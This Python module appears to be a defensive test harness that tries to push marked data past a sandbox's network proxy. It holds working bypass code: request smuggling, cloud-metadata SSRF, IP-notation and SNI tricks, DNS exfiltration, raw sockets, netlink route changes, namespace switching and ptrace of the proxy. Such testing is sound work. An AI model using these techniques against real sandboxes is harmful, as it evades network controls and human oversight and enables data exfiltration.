"""Attempts to send data past network rules, for code inside a kernel: the standard library only, sent as text.

Each attempt has a mark, and puts it only into what must not arrive. Whether it arrived is for the listeners outside to
see. An attempt returns True only if it got hold of something that no listener can see, such as a raw socket.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import secrets
import socket
import ssl
import struct
import sys
import threading
import urllib.request
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from typing import Any

#: Code that loads this module in a kernel, from its source.
LOAD = """
import json, sys, types
probes = sys.modules["network_probes"] = types.ModuleType("network_probes")
exec(compile({source!r}, "network_probes", "exec"), vars(probes))
"""
Facts = dict[str, Any]
Attack = Callable[[Facts, str], object]
_SECONDS = 4.0
_WORKERS = 8


@dataclass(frozen=True)
class Attempt:
    """An attack, and whether it succeeds where no rules hold."""

    attack: Attack
    is_open_in_control: bool


ATTEMPTS: dict[str, Attempt] = {}


def attempt(*, control: bool = True) -> Callable[[Attack], Attack]:
    """Note a function as an attempt; without `control` it needs rights or a network that the control run has not."""

    def note(attack: Attack) -> Attack:
        _add(attack.__name__, attack, control=control)
        return attack

    return note


def _add(name: str, attack: Attack, *, control: bool = True) -> None:
    assert name not in ATTEMPTS, name
    ATTEMPTS[name] = Attempt(attack, control)


def run(facts: Facts, marks: dict[str, str]) -> dict[str, list[str]]:
    """Carry out the attempts that have a mark; return those that got something, and mistakes in the others."""
    found: dict[str, list[str]] = {"got": [], "mistakes": []}
    waiting = list(marks.items())

    def work() -> None:
        while waiting:
            try:
                name, mark = waiting.pop()
            except IndexError:
                return
            try:
                if ATTEMPTS[name].attack(facts, mark) is True:
                    found["got"].append(name)
            except OSError:
                pass  # refused by the system, by a proxy, or by TLS
            except Exception as error:
                found["mistakes"].append(f"{name}: {type(error).__name__}: {error}")

    threads = [threading.Thread(target=work) for _ in range(_WORKERS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return found


def make_marks(names: Iterable[str], facts: Facts) -> dict[str, str]:
    """Return a mark for each of these attempts that is possible here."""
    return {name: f"mark-{secrets.token_hex(8)}" for name in names if "web" in facts or not name.startswith("web_")}


# --- Tools


def _talk(connection: socket.socket, *messages: bytes) -> bytes:
    """Send each message, and read an answer after it; return the last answer."""
    answer = b""
    for message in messages:
        try:
            connection.sendall(message)
            answer = connection.recv(65536)
        except OSError:  # refused so far: a later message may still get through
            continue
    return answer


def _proxied(facts: Facts, *messages: bytes) -> bytes:
    with socket.create_connection(tuple(facts["proxy"]), _SECONDS) as connection:
        return _talk(connection, *messages)


def _direct(facts: Facts, family: int, address: Any, mark: str, kind: int = socket.SOCK_STREAM) -> None:
    with socket.socket(family, kind) as connection:
        connection.settimeout(_SECONDS)
        if kind == socket.SOCK_DGRAM:
            connection.sendto(mark.encode(), address)
            return
        connection.connect(address)
        _talk(connection, mark.encode())


def _request(host: str, target: str, *lines: str, method: str = "GET", body: str = "") -> bytes:
    return "\r\n".join([f"{method} {target} HTTP/1.1", f"Host: {host}", *lines, "", body]).encode("utf-8", "replace")


def _connect(authority: str) -> bytes:
    return f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode("utf-8", "replace")


def _socks(facts: Facts, address: bytes, port: int, mark: str, command: int = 1) -> bytes:
    request = bytes([5, command, 0]) + address + struct.pack("!H", port)
    return _proxied(facts, b"\x05\x01\x00", request, mark.encode())


def _named(name: str) -> bytes:
    return bytes([3, len(name)]) + name.encode()


def _tls(facts: Facts, authority: str, server_name: str | None, mark: str, protocols: tuple[str, ...] = ()) -> None:
    """Begin TLS in a tunnel; the mark is in the server name, or sent in the tunnel before the handshake ends."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    # In the hello whatever the server name is; the data of a session that never was.
    context.set_alpn_protocols([*protocols, mark])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=server_name)
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    _proxied(facts, _connect(authority), outgoing.read())


def _read(path: str) -> bytes:
    with open(path, "rb") as file:
        return file.read()


def _opens(family: int, kind: int, protocol: int = 0) -> bool:
    socket.socket(family, kind, protocol).close()
    return True


# --- Hosts that no rule allows, in all notations: by URL, tunnel and SOCKS, and without the proxy

_NOTATIONS = {
    "loopback": "127.0.0.1",
    "other_loopback": "127.0.0.2",
    "short": "127.1",
    "decimal": "2130706433",
    "hexadecimal": "0x7f000001",
    "dotted_hexadecimal": "0x7f.0.0.1",
    "octal": "0177.0.0.1",
    "leading_zeros": "127.0.0.001",
    "any": "0.0.0.0",
    "zero": "0",
    "ipv6": "[::1]",
    "ipv6_long": "[0:0:0:0:0:0:0:1]",
    "ipv6_any": "[::]",
    "mapped": "[::ffff:127.0.0.1]",
    "mapped_hexadecimal": "[::ffff:7f00:1]",
    "zone": "[::1%lo]",
    "zone_encoded": "[::1%25lo]",
    "nat64": "[64:ff9b::7f00:1]",
    "six_to_four": "[2002:7f00:1::]",
    "compatible": "[::127.0.0.1]",
    "metadata": "169.254.169.254",
    "metadata_ipv6": "[fd00:ec2::254]",
    "name": "refused.test",
    "name_of_the_machine": "localhost",
    "trailing_dot": "here.test.",
    "two_dots": "here..test",
    "percent_encoded": "%72efused.test",
    "percent_encoded_dot": "refused%2etest",
    "user_info": "here.test@refused.test",
    "user_and_password": "here.test:80@refused.test",
    "null_byte": "here.test\0.refused.test",
    "null_byte_encoded": "here.test%00.refused.test",
    "lookalike": "hеre.test",  # noqa: RUF001 - the second letter is Cyrillic
    "lookalike_dot": "refused。test",
    "punycode": "xn--hre-tdd.test",
    "underscore": "here_.test",
    "subdomain": "a.here.test",
    "suffix": "nothere.test",
    "prefix": "here.test.refused.test",
    "very_long": "a." * 130 + "test",
    "long_label": "a" * 70 + ".test",
    "backslash": "here.test\\.refused.test",
    "fragment": "refused.test#.here.test",
    "tab": "here.test\t.refused.test",
}
#: Nothing listens there on an ordinary machine, or a lenient proxy does not understand them either.
_NOWHERE = {
    *("nat64", "six_to_four", "compatible", "metadata", "metadata_ipv6"),
    *("zone_encoded", "fragment", "tab", "null_byte", "lookalike", "lookalike_dot"),
}
_NOT_DIRECT = {*_NOWHERE, "ipv6_any", "zone"}


def _by_url(host: str) -> Attack:
    def attack(facts: Facts, mark: str) -> None:
        authority = f"{host}:{facts['refused']}"
        _proxied(facts, _request(authority, f"http://{authority}/{mark}"))

    return attack


def _by_tunnel(host: str) -> Attack:
    def attack(facts: Facts, mark: str) -> None:
        _proxied(facts, _connect(f"{host}:{facts['refused']}"), mark.encode())

    return attack


def _by_socks(host: str) -> Attack:
    def attack(facts: Facts, mark: str) -> None:
        _socks(facts, _named(host.strip("[]")[:255]), facts["refused"], mark)

    return attack


def _without_proxy(host: str) -> Attack:
    def attack(facts: Facts, mark: str) -> None:
        _direct(facts, socket.AF_INET6 if ":" in host else socket.AF_INET, (host, facts["refused"]), mark)

    return attack


for _label, _host in _NOTATIONS.items():
    _add(f"tunnel_to_{_label}", _by_tunnel(_host), control=_label not in _NOWHERE)
    if _label in ("loopback", "decimal", "ipv6", "mapped", "name", "name_of_the_machine", "user_info"):
        _add(f"url_of_{_label}", _by_url(_host), control=True)
        _add(f"socks_by_name_to_{_label}", _by_socks(_host), control=True)
    if _label in list(_NOTATIONS)[:21]:
        _add(f"without_proxy_to_{_label}", _without_proxy(_host.strip("[]")), control=_label not in _NOT_DIRECT)


@attempt()
def tunnel_to_another_port_of_an_allowed_host(facts: Facts, mark: str) -> None:
    """Ports beside the allowed one."""
    _proxied(facts, _connect(f"here.test:{facts['refused']}"), mark.encode())


@attempt(control=False)
def tunnel_to_a_port_that_overflows(facts: Facts, mark: str) -> None:
    """A port that becomes another one in 16 bits."""
    _proxied(facts, _connect(f"here.test:{facts['refused'] + 65536}"), mark.encode())


@attempt()
def tunnel_to_the_name_service(facts: Facts, mark: str) -> None:
    """A name service as a way out."""
    _proxied(facts, _connect(f"here.test:{facts['dns']}"), mark.encode())


@attempt()
def redirect_to_a_refused_host(facts: Facts, mark: str) -> None:
    """An allowed host that sends the program on."""
    _follow(facts, f"http://refused.test:{facts['refused']}/{mark}")


@attempt()
def redirect_to_a_private_address(facts: Facts, mark: str) -> None:
    """The same, to an address."""
    _follow(facts, f"http://127.0.0.2:{facts['refused']}/{mark}")


def _follow(facts: Facts, url: str) -> None:
    host, port = facts["proxy"]
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": f"http://{host}:{port}"}))
    # The mark goes in two halves, so that the first request, which is allowed, does not have it.
    where = url.encode().hex()
    opener.open(f"http://here.test:{facts['allowed']}/redirect/{where}", timeout=_SECONDS).close()


# --- SOCKS


@attempt()
def socks_by_ipv4_address(facts: Facts, mark: str) -> None:
    """Addresses in bytes."""
    _socks(facts, b"\x01" + socket.inet_aton("127.0.0.1"), facts["refused"], mark)


@attempt()
def socks_by_ipv6_address(facts: Facts, mark: str) -> None:
    """The same, of the newer protocol."""
    _socks(facts, b"\x04" + socket.inet_pton(socket.AF_INET6, "::1"), facts["refused"], mark)


@attempt()
def socks_by_mapped_address(facts: Facts, mark: str) -> None:
    """The same, one inside of the other."""
    _socks(facts, b"\x04" + socket.inet_pton(socket.AF_INET6, "::ffff:127.0.0.1"), facts["refused"], mark)


@attempt(control=False)
def socks_by_nat64_address(facts: Facts, mark: str) -> None:
    """The same, by a translator."""
    _socks(facts, b"\x04" + socket.inet_pton(socket.AF_INET6, "64:ff9b::7f00:1"), facts["refused"], mark)


@attempt()
def socks_4(facts: Facts, mark: str) -> None:
    """The old protocol, which has addresses only."""
    request = b"\x04\x01" + struct.pack("!H", facts["refused"]) + socket.inet_aton("127.0.0.1") + b"me\0"
    _proxied(facts, request, mark.encode())


@attempt()
def socks_4a(facts: Facts, mark: str) -> None:
    """The old protocol with names."""
    request = b"\x04\x01" + struct.pack("!H", facts["refused"]) + b"\0\0\0\x01me\0refused.test\0"
    _proxied(facts, request, mark.encode())


@attempt(control=False)
def socks_listens(facts: Facts, mark: str) -> bool:
    """A port outside, for connections from there."""
    answer = _socks(facts, b"\x01\0\0\0\0", 0, mark, command=2)
    return answer[:2] == b"\x05\x00"


@attempt(control=False)
def socks_sends_datagrams(facts: Facts, mark: str) -> bool:
    """Datagrams by the proxy."""
    answer = _socks(facts, b"\x01\0\0\0\0", 0, mark, command=3)
    return answer[:2] == b"\x05\x00"


# --- TLS in tunnels


@attempt()
def tls_with_another_server_name(facts: Facts, mark: str) -> None:
    """Another site of the same server."""
    _tls(facts, f"here.test:{facts['allowed']}", "refused.test", mark)


@attempt()
def tls_without_server_name(facts: Facts, mark: str) -> None:
    """The server's first site."""
    _tls(facts, f"here.test:{facts['allowed']}", None, mark)


@attempt()
def tls_with_a_subdomain(facts: Facts, mark: str) -> None:
    """A site of the same domain, with data in its name."""
    _tls(facts, f"here.test:{facts['allowed']}", f"{mark}.here.test", mark)


@attempt()
def tls_with_another_server_name_where_the_proxy_ends_it(facts: Facts, mark: str) -> None:
    """Another site, with a rule that has a path."""
    _tls(facts, f"here.test:{facts['ended']}", "refused.test", mark)


@attempt()
def http_2_to_another_site_in_one_tunnel(facts: Facts, mark: str) -> None:
    """A connection for two sites; the name that they share is another one."""
    _tls(facts, f"here.test:{facts['allowed']}", "refused.test", mark, ("h2",))


@attempt()
def tls_hello_in_small_records(facts: Facts, mark: str) -> None:
    """A server name that stands in two records."""
    name = f"{mark}.refused.test".encode()
    names = struct.pack("!HBH", len(name) + 3, 0, len(name)) + name
    extensions = struct.pack("!HH", 0, len(names)) + names
    hello = b"\x03\x03" + bytes(32) + b"\0" + b"\0\x02\x13\x01" + b"\x01\0" + struct.pack("!H", len(extensions))
    message = b"\x01" + struct.pack("!I", len(hello) + len(extensions))[1:] + hello + extensions
    cut = message.index(mark.encode())  # the mark itself stays whole, for the listeners to see
    records = b"".join(b"\x16\x03\x01" + struct.pack("!H", len(part)) + part for part in (message[:cut], message[cut:]))
    _proxied(facts, _connect(f"here.test:{facts['allowed']}"), records)


@attempt()
def no_tls_where_the_proxy_reads_requests(facts: Facts, mark: str) -> None:
    """Bytes of any protocol in a tunnel whose rule has a path."""
    _proxied(facts, _connect(f"here.test:{facts['paths']}"), mark.encode() + b"\r\n\r\n")


@attempt()
def http_2_without_tls(facts: Facts, mark: str) -> None:
    """A protocol that the proxy does not read."""
    _proxied(
        facts, _connect(f"here.test:{facts['paths']}"), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9) + mark.encode()
    )


@attempt()
def http_2_by_an_upgrade(facts: Facts, mark: str) -> None:
    """The same, later on the connection."""
    authority = f"here.test:{facts['paths']}"
    first = _request(
        authority, f"http://{authority}/v1/", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: A"
    )
    _proxied(facts, first, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + mark.encode())


@attempt()
def bytes_right_after_the_request_for_a_tunnel(facts: Facts, mark: str) -> None:
    """Data that is sent before the proxy has decided."""
    _proxied(facts, _connect(f"refused.test:{facts['refused']}") + mark.encode())


# --- The web's own ports, with a rule for the host; these attempts need a listener there


@attempt()
def web_without_tls_on_port_443(facts: Facts, mark: str) -> None:
    """Any protocol, on the port that is open in most rules."""
    _proxied(facts, _connect("web.test:443"), mark.encode())


@attempt()
def web_with_another_server_name(facts: Facts, mark: str) -> None:
    """Another site of the same server."""
    _tls(facts, "web.test:443", "refused.test", mark)


@attempt()
def web_without_server_name(facts: Facts, mark: str) -> None:
    """The server's first site."""
    _tls(facts, "web.test:443", None, mark)


@attempt()
def web_by_socks_with_another_server_name(facts: Facts, mark: str) -> None:
    """The same, by the other protocol of the proxy: bytes that are no TLS."""
    _socks(facts, _named("web.test"), 443, mark)


@attempt()
def web_with_any_protocol_on_port_80(facts: Facts, mark: str) -> None:
    """Any protocol, on the other port of the web."""
    _proxied(facts, _connect("web.test:80"), mark.encode() + b"\r\n\r\n")


@attempt()
def web_with_tls_on_port_80(facts: Facts, mark: str) -> None:
    """TLS where only requests are read."""
    _tls(facts, "web.test:80", "web.test", mark)


@attempt()
def web_with_http_2_on_port_80(facts: Facts, mark: str) -> None:
    """A protocol that the proxy does not read."""
    _proxied(facts, _connect("web.test:80"), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + mark.encode())


@attempt()
def web_with_another_host_in_the_second_request(facts: Facts, mark: str) -> None:
    """Another site, later in a tunnel."""
    second = _request("refused.test", f"/{mark}")
    _proxied(facts, _connect("web.test:80"), _request("web.test", "/") + second)


# --- Requests that two readers understand in two ways


@attempt()
def header_host_of_a_refused_host(facts: Facts, mark: str) -> None:
    """Another site of the same server."""
    target = f"http://here.test:{facts['paths']}/v1/{mark}"
    _proxied(facts, _request("refused.test", target))


@attempt()
def header_host_twice(facts: Facts, mark: str) -> None:
    """The same, where the first one is right."""
    authority = f"here.test:{facts['paths']}"
    _proxied(facts, _request(authority, f"http://{authority}/v1/{mark}", "Host: refused.test"))


@attempt()
def header_host_with_a_user(facts: Facts, mark: str) -> None:
    """The same, where it is right in part."""
    authority = f"here.test:{facts['paths']}"
    _proxied(facts, _request(f"{authority}@refused.test", f"http://{authority}/v1/{mark}"))


@attempt()
def refused_host_in_the_url_and_allowed_one_in_the_header(facts: Facts, mark: str) -> None:
    """Another host, if the header were compared with the rules."""
    target = f"http://refused.test:{facts['refused']}/{mark}"
    _proxied(facts, _request(f"here.test:{facts['paths']}", target))


@attempt()
def two_lengths(facts: Facts, mark: str) -> None:
    """A second request inside of the first one's body."""
    _smuggle(facts, mark, "Content-Length: 3", "Content-Length: 0")


@attempt()
def length_and_chunks(facts: Facts, mark: str) -> None:
    """The same, with two kinds of length."""
    _smuggle(facts, mark, "Content-Length: 3", "Transfer-Encoding: chunked")


@attempt()
def unusual_name_of_chunks(facts: Facts, mark: str) -> None:
    """The same, with a kind of length that some do not know."""
    _smuggle(facts, mark, "Transfer-Encoding: xchunked")


@attempt()
def space_before_the_colon(facts: Facts, mark: str) -> None:
    """The same, with a header that some overlook."""
    _smuggle(facts, mark, "Content-Length : 3")


@attempt()
def folded_header(facts: Facts, mark: str) -> None:
    """The same, with a header over two lines."""
    _smuggle(facts, mark, "X: 1\r\n\tContent-Length: 3", "Transfer-Encoding:\r\n chunked", "Content-Length: 3")


@attempt()
def bare_line_end_in_a_header(facts: Facts, mark: str) -> None:
    """The same, with a line end that some do not count."""
    _smuggle(facts, mark, "X: 1\rHost: refused.test\r")


def _smuggle(facts: Facts, mark: str, *lines: str) -> None:
    authority = f"here.test:{facts['paths']}"
    inner = _request("refused.test", f"/private/{mark}").decode()
    _proxied(facts, _request(authority, f"http://{authority}/v1/", *lines, body="0\r\n\r\n" + inner))


@attempt()
def second_request_to_another_host_in_one_go(facts: Facts, mark: str) -> None:
    """A request behind an allowed one on the same connection."""
    authority, other = f"here.test:{facts['paths']}", f"refused.test:{facts['refused']}"
    _proxied(facts, _request(authority, f"http://{authority}/v1/") + _request(other, f"http://{other}/{mark}"))


@attempt()
def second_request_to_another_host_in_a_tunnel(facts: Facts, mark: str) -> None:
    """The same, inside of a tunnel that the proxy reads."""
    authority = f"here.test:{facts['paths']}"
    both = _request(authority, "/v1/") + _request("refused.test", f"/v1/{mark}")
    _proxied(facts, _connect(authority), both)


@attempt()
def websocket_to_a_refused_host(facts: Facts, mark: str) -> None:
    """A connection that stays open both ways."""
    authority = f"refused.test:{facts['refused']}"
    lines = ("Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: AAAA")
    _proxied(facts, _request(authority, f"http://{authority}/{mark}", *lines))


@attempt()
def line_end_in_the_url(facts: Facts, mark: str) -> None:
    """Headers of the program's own in the first line."""
    authority = f"here.test:{facts['paths']}"
    _proxied(facts, _request(authority, f"http://{authority}/v1/\r\nX-Smuggled: {mark}\rHost: refused.test"))


@attempt(control=False)
def line_end_in_the_name(facts: Facts, mark: str) -> None:
    """The same, in the name of a host by SOCKS."""
    _socks(facts, _named(f"here.test\r\nX: {mark}"), facts["allowed"], mark)


# --- Paths


_PATHS = {
    "dots": "/v1/../private/{}",
    "encoded_dots": "/v1/%2e%2e/private/{}",
    "encoded_slash": "/v1/..%2fprivate/{}",
    "double_encoding": "/v1/%252e%252e/private/{}",
    "two_slashes": "//private/{}",
    "backslash": "/v1/..\\private/{}",
    "encoded_backslash": "/v1/..%5cprivate/{}",
    "parameter": "/v1/..;/private/{}",
    "url_as_path": "/http://here.test/v1/{}",
    "upper_case": "/V1/{}",
    "null_byte": "/v1/%00/../../private/{}",
    "prefix": "/v1x/{}",
}


def _by_path(path: str) -> Attack:
    def attack(facts: Facts, mark: str) -> None:
        authority = f"here.test:{facts['paths']}"
        _proxied(facts, _request(authority, f"http://{authority}{path.format(mark)}"))

    return attack


for _label, _path in _PATHS.items():
    _add(f"path_with_{_label}", _by_path(_path))


@attempt()
def other_method(facts: Facts, mark: str) -> None:
    """A change where only reading is allowed."""
    authority = f"here.test:{facts['paths']}"
    _proxied(facts, _request(authority, f"http://{authority}/v1/{mark}", method="DELETE"))


def _with_header(name: str, value: str) -> Attack:
    def attack(facts: Facts, mark: str) -> None:
        authority = f"here.test:{facts['paths']}"
        _proxied(facts, _request(authority, f"http://{authority}/v1/{mark}", f"{name}: {value}"))

    return attack


for _header, _value in (
    *(("X-HTTP-Method-Override", "DELETE"), ("X-HTTP-Method", "DELETE"), ("X-Method-Override", "DELETE")),
    *(("X-Original-URL", "/private"), ("X-Rewrite-URL", "/private")),
):
    _add(f"header_{_header.lower().replace('-', '_')}", _with_header(_header, _value))


# --- Without the proxy


@attempt()
def proxy_variables_unset(facts: Facts, mark: str) -> None:
    """Programs that know no proxy."""
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    opener.open(f"http://127.0.0.1:{facts['refused']}/{mark}", timeout=_SECONDS).close()


@attempt()
def exception_from_the_proxy(facts: Facts, mark: str) -> None:
    """The same, by NO_PROXY."""
    code = "import os, urllib.request; os.environ['NO_PROXY'] = os.environ['no_proxy'] = '*'; urllib.request.urlopen("
    # In a process of its own: the variables are those of all threads here.
    os.spawnv(os.P_WAIT, sys.executable, ["python", "-c", f"{code}'http://127.0.0.1:{facts['refused']}/{mark}')"])


@attempt()
def allowed_host_without_the_proxy(facts: Facts, mark: str) -> None:
    """An allowed host past the records."""
    _direct(facts, socket.AF_INET, ("127.0.0.1", facts["allowed"]), mark)


@attempt()
def name_service_by_datagram(facts: Facts, mark: str) -> None:
    """Data in a question to a name service."""
    _direct(facts, socket.AF_INET, ("127.0.0.1", facts["dns"]), mark, socket.SOCK_DGRAM)


@attempt()
def name_service_by_ipv6_datagram(facts: Facts, mark: str) -> None:
    """The same, of the newer protocol."""
    _direct(facts, socket.AF_INET6, ("::1", facts["dns"]), mark, socket.SOCK_DGRAM)


@attempt()
def name_service_by_connection(facts: Facts, mark: str) -> None:
    """The same, where only datagrams are closed."""
    _direct(facts, socket.AF_INET, ("127.0.0.1", facts["dns"]), mark)


@attempt(control=False)
def data_in_a_name(facts: Facts, mark: str) -> bool:
    """The resolver of the system asked."""
    return bool(socket.getaddrinfo(f"{mark}.example.com", 80))


@attempt()
def connection_by_its_first_packet(facts: Facts, mark: str) -> None:
    """A connection without the call for one."""
    with socket.socket() as caller:
        caller.sendto(mark.encode(), 0x20000000, ("127.0.0.1", facts["refused"]))  # MSG_FASTOPEN


@attempt()
def abstract_socket_of_the_host(facts: Facts, mark: str) -> None:
    """Services that no network namespace of another kind hides."""
    _direct(facts, socket.AF_UNIX, "\0" + facts["abstract"], mark)


@attempt()
def socket_file_of_the_host(facts: Facts, mark: str) -> None:
    """Services with a file."""
    _direct(facts, socket.AF_UNIX, facts["socket_file"], mark)


@attempt(control=False)
def raw_socket(facts: Facts, mark: str) -> bool:
    """Packets of any protocol that leave the machine."""
    return _opens(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@attempt(control=False)
def raw_ipv6_socket(facts: Facts, mark: str) -> bool:
    """The same, of the newer protocol."""
    return _opens(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)


@attempt(control=False)
def packet_socket(facts: Facts, mark: str) -> bool:
    """Packets below all protocols."""
    return _opens(17, socket.SOCK_RAW, 0x300)


@attempt(control=False)
def echo_request(facts: Facts, mark: str) -> None:
    """Data in an ICMP message, without rights; nobody sees it in the control run."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as caller:
        caller.sendto(b"\x08\0\0\0\0\0\0\0" + mark.encode(), ("192.0.2.1", 0))
        raise AssertionError("an ICMP message was sent")


@attempt(control=False)
def socket_to_the_hypervisor(facts: Facts, mark: str) -> bool:
    """The machine that this machine runs on."""
    return _opens(40, socket.SOCK_STREAM)


@attempt(control=False)
def socket_of_the_crypto_interface(facts: Facts, mark: str) -> bool:
    """A part of the kernel with many past mistakes."""
    return _opens(38, socket.SOCK_SEQPACKET)


@attempt(control=False)
def interface_added(facts: Facts, mark: str) -> bool:
    """A way out of the own namespace; only tried where there is one."""
    netlink = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    with netlink:
        name = b"probe0\0\0"
        attributes = struct.pack("HH", 4 + len(name), 3) + name
        kind = struct.pack("HH", 10, 1) + b"dummy\0" + b"\0\0"
        attributes += struct.pack("HH", 4 + len(kind), 18) + kind
        body = struct.pack("BBHiII", 0, 0, 0, 0, 0, 0) + attributes
        netlink.sendto(struct.pack("IHHII", 16 + len(body), 16, 0x605, 1, 0) + body, (0, 0))
        return bool(struct.unpack_from("i", netlink.recv(4096), 16)[0] == 0)


@attempt(control=False)
def route_added(facts: Facts, mark: str) -> bool:
    """The same, by a route over the loopback interface."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as netlink:
        attributes = struct.pack("HHI", 8, 4, 1) + struct.pack("HH4s", 8, 1, socket.inet_aton("192.0.2.0"))
        body = struct.pack("BBBBBBBBI", 2, 24, 0, 0, 254, 4, 253, 1, 0) + attributes
        netlink.sendto(struct.pack("IHHII", 16 + len(body), 24, 0x605, 1, 0) + body, (0, 0))
        return bool(struct.unpack_from("i", netlink.recv(4096), 16)[0] == 0)


@attempt(control=False)
def other_network_namespace(facts: Facts, mark: str) -> bool:
    """A namespace in which the program has all rights, or that of the first process."""
    libc = ctypes.CDLL(None, use_errno=True)
    for path in ("/proc/1/ns/net", f"/proc/{os.getppid()}/ns/net", "/proc/self/ns/net"):
        try:
            namespace = os.open(path, os.O_RDONLY)
        except OSError:
            continue
        try:
            if libc.setns(namespace, 0x40000000) == 0:
                return True
        finally:
            os.close(namespace)
    return False


@attempt(control=False)
def more_interfaces_than_the_own_loopback(facts: Facts, mark: str) -> bool:
    """Interfaces of the host."""
    return [name for _, name in socket.if_nameindex()] != ["lo"]


# --- The proxy's port


@attempt(control=False)
def port_of_the_proxy_taken(facts: Facts, mark: str) -> bool:
    """What other programs of the session send to the proxy."""
    for option in (0, socket.SO_REUSEADDR, socket.SO_REUSEPORT):
        for address in ("127.0.0.1", "0.0.0.0"):
            with socket.socket() as listener:
                if option:
                    listener.setsockopt(socket.SOL_SOCKET, option, 1)
                try:
                    listener.bind((address, facts["proxy"][1]))
                    listener.listen()
                except OSError:
                    continue
                return True
    return False


@attempt(control=False)
def descriptor_of_the_proxys_socket(facts: Facts, mark: str) -> bool:
    """The proxy's own end, in a process that can be seen: there is none with this listening socket."""
    lines = [line.split() for line in _read("/proc/net/tcp").decode().splitlines()[1:]]
    inodes = [line[9] for line in lines if line[1].endswith(f":{facts['proxy'][1]:04X}") and line[3] == "0A"]
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        try:
            links = [os.readlink(f"/proc/{pid}/fd/{number}") for number in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            continue
        if any(f"socket:[{inode}]" in links for inode in inodes):
            return True
    return False


@attempt(control=False)
def process_of_the_proxy_seen(facts: Facts, mark: str) -> bool:
    """A process to trace, to signal, or to read memory of."""
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        try:
            line = _read(f"/proc/{pid}/cmdline")
        except OSError:
            continue
        if b"proxy_process" in line or b"namespace_program" in line:
            return True
    return False


@attempt(control=False)
def process_of_the_proxy_traced_by_its_number(facts: Facts, mark: str) -> bool:
    """The same, by the number that it has outside."""
    libc = ctypes.CDLL(None, use_errno=True)
    if os.path.exists(f"/proc/{facts['proxy_pid']}"):
        return False  # another process, of this session
    return bool(libc.ptrace(0x4206, facts["proxy_pid"], 0, 0) == 0 or libc.kill(facts["proxy_pid"], 0) == 0)


@attempt(control=False)
def port_of_the_proxy_outside(facts: Facts, mark: str) -> bool:
    """A socket of the proxy's that another session could use: abstract names, or ports on other addresses."""
    for line in _read("/proc/net/unix").decode(errors="replace").splitlines()[1:]:
        name = line.split()[-1]
        if name.startswith("@") and facts["abstract"] not in name and "proxy" in name:
            return True
    return False


def upload(facts: Facts) -> None:
    """Send more than a session may, a little in each of many connections; also in the names of methods."""
    authority = f"here.test:{facts['allowed']}"
    for _ in range(40):
        _proxied(facts, _request(authority, f"http://{authority}/", method="u" * 1000))
        _proxied(facts, _connect(f"here.test:{facts['allowed']}"), b"u" * 1000)


if __name__ == "__main__":
    given = json.loads(sys.stdin.read())
    print(json.dumps(run(given["facts"], given["marks"])))
